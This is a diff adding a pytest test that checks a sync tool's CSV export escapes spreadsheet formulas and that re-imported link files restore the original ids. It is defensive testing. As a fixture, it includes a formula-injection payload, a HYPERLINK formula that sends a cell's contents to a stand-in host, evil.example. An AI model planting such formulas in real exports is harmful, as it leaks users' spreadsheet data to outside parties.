@@ -16,8 +16,10 @@ from scanner.cli import main
 from scanner.tables import utc_now
 from sync.cloud.config import CloudConfig
 from sync.cloud.jobs import JobContext
+from sync.cloud.sources.book_sql import SqlBook
 from sync.cloud.sources.collector import LOCK
 from sync.cloud.sources.job import collect_due
+from sync.cloud.sources.records import Kind, LeftOut, Why
 from sync.cloud.store import CloudStore
 from tests.sync.sources.shop import NEWT, WING, scanned, serve, settings
 from tests.sync.sources.web import Web, raw, status
@@ -78,6 +80,35 @@ def test_the_commands(cloud: Cloud, tmp_path: Path) -> None:
     assert "tcgcsv: 5 requests" in cloud("sources", "usage")[1]
     code, said, _ = cloud("sources", "status")
     assert (code, said.startswith("tcgcsv, pokemon: last good 20")) == (0, True)
+
+
+def test_what_was_left_out_is_no_formula_in_a_spreadsheet_and_comes_back(
+    cloud: Cloud, shop: Path, tmp_path: Path
+) -> None:
+    evil = '=HYPERLINK("http://evil.example"&A1,"Newt")'
+    with CloudStore(shop) as store:
+        book = SqlBook(store)
+        lost = [
+            LeftOut(Kind.SET, their_id, name, name, "", Why.NO_SET)
+            for their_id, name in (("=Oddments", evil), ("Plain", "+2 Mace"))
+        ]
+        book.set_left_out("tcgcsv", "pokemon", lost)
+    written = cloud("sources", "left-out")[1]
+    rows = list(csv.DictReader(io.StringIO(written)))
+    assert [(row["their_id"], row["name"]) for row in rows] == [
+        ("'=Oddments", f"'{evil}"), ("Plain", "+2 Mace")
+    ]  # fmt: skip
+    for at, delimiter in enumerate(",;"):
+        text = io.StringIO(newline="")
+        writer = csv.DictWriter(text, rows[0].keys(), delimiter=delimiter)
+        writer.writeheader()
+        writer.writerows({**row, "card_id": "Tin Harbour"} for row in rows)
+        file = tmp_path / f"links-{at}.csv"
+        file.write_text(text.getvalue(), encoding="utf-8", newline="")
+        assert cloud("sources", "link", file)[0] == 0
+        with CloudStore(shop) as store:
+            links = SqlBook(store).links("pokemon")
+        assert {link.their_id for link in links} == {"=Oddments", "Plain"}
 
 
 def test_a_source_that_fails_is_told_by_the_exit_code(cloud: Cloud, web: Web) -> None:
